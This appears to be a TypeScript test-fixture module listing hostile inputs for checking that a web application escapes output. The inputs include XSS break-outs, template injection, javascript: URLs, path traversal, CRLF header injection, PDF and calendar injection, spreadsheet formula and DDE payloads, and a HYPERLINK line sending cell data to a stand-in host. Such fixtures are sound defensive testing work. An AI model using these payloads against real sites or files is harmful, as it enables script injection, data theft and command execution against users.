/** The function that every payload tries to call; the page that lets it run tells on itself. */
export const CALLED = 'qx';

/**
 * Texts that were scripts on somebody's page: each breaks out of another place (text, attribute,
 * script, style, template, address, file name, table, calendar, paper).
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>qx(1)</script>',
  '<img src=x onerror=qx(2)>',
  '<svg onload=qx(3)>',
  '<svg><script href="data:,qx(4)"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=qx(5)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=qx(6)>">',
  '"><qx-a onfocus=qx(7) tabindex=1 autofocus>',
  "'><qx-b onmouseover='qx(8)'>",
  '" onfocus="qx(9)" autofocus="',
  "' onpointerenter='qx(10)' x='",
  '` onclick=qx(11) x=`',
  '</script><script>qx(12)</script>',
  '</title><script>qx(13)</script>',
  '</textarea><script>qx(14)</script>',
  '</style><script>qx(15)</script>',
  '--><script>qx(16)</script><!--',
  ']]><script>qx(17)</script><![CDATA[',
  '{"a":"</script><script>qx(18)</script>"}',
  '\\u003cscript\\u003eqx(19)\\u003c/script\\u003e',
  '&lt;script&gt;qx(20)&lt;/script&gt;&#60;script&#62;qx(20)',
  '{{constructor.constructor("qx(21)")()}}',
  '{{{lookup this "constructor"}}} {{> @partial-block}} ${qx(22)} <%= qx(22) %> #{qx(22)}',
  '<iframe srcdoc="<script>parent.qx(23)</script>"></iframe>',
  '<a href="javascript:qx(24)">x</a><a href=" &#1;java&#10;script:qx(24)">x</a>',
  '<object data="data:text/html,<script>qx(25)</script>"></object><embed src="javascript:qx(25)">',
  '<form action="javascript:qx(26)"><button formaction="javascript:qx(26)">x</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:qx(28)">',
  '<style>@import "https://evil.example/x";body{background:url(javascript:qx(29))}</style>',
  '<p style="background:url(https://evil.example/qx30);position:fixed;inset:0">',
  '<details open ontoggle=qx(31)><video><source onerror=qx(31)></video>',
  '<ѕcript>qx(32)</ѕcript> ＜script＞qx(32)＜/script＞ %3Cscript%3Eqx(32)%3C%2Fscript%3E',
  'ӘҒҚҢӨҰҮҺІ <b/онerror=qx(33)>қазақша</b> \u202Egnp.exe\u202C \u200B\uFEFF\u2028\u2029',
  '<x/онclick=1 onclick\u000Bonbeforetoggle=qx(34)\u0001\u0008>',
  "../../../etc/passwd%00.png\"; filename*=UTF-8''qx.html",
  'line\r\nSet-Cookie: qx=1\r\nContent-Type: text/html\r\n\r\n<script>qx(36)</script>',
  'text\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/\r\n',
  ') /OpenAction << /S /JavaScript /JS (app.alert(38)) >> endobj',
  '=HYPERLINK("https://evil.example/?"&A1,"qx")|cmd\' /C calc\'!A0',
  '\t@SUM(1+1)*cmd|; "; \'\n=1+1\n+1\n-1\n@1',
  '<template shadowrootmode=open><script>qx(41)</script></template><portal src=javascript:qx(41)>',
];

/** What a spreadsheet takes for the beginning of a formula. */
export const FORMULA_STARTS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];

/** All of them in one text, as one field takes them. */
export const HOSTILE_TEXT: string = HOSTILE_TEXTS.join(' ');

/** Addresses for fields that take one: where they are put into `href`, none may be followed. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'javascript:qx(51)//https://example.kz/',
  'data:text/html,<script>qx(52)</script>',
  'https://example.kz/"onfocus="qx(53)"autofocus="',
  'JaVaScRiPt:qx(54)',
];

/** Pieces that must never stand unescaped in a page: each is the beginning of a break-out. */
export const BREAK_OUTS: readonly string[] = [
  '<script>qx',
  '<img src=x',
  '<svg onload',
  '<qx-',
  '" onfocus="qx',
  "' onpointerenter='qx",
  '</title><script',
  '</textarea><script',
  '<iframe srcdoc',
  '<base href="https://evil',
  '<meta http-equiv="refresh" content="0;url=javascript',
];
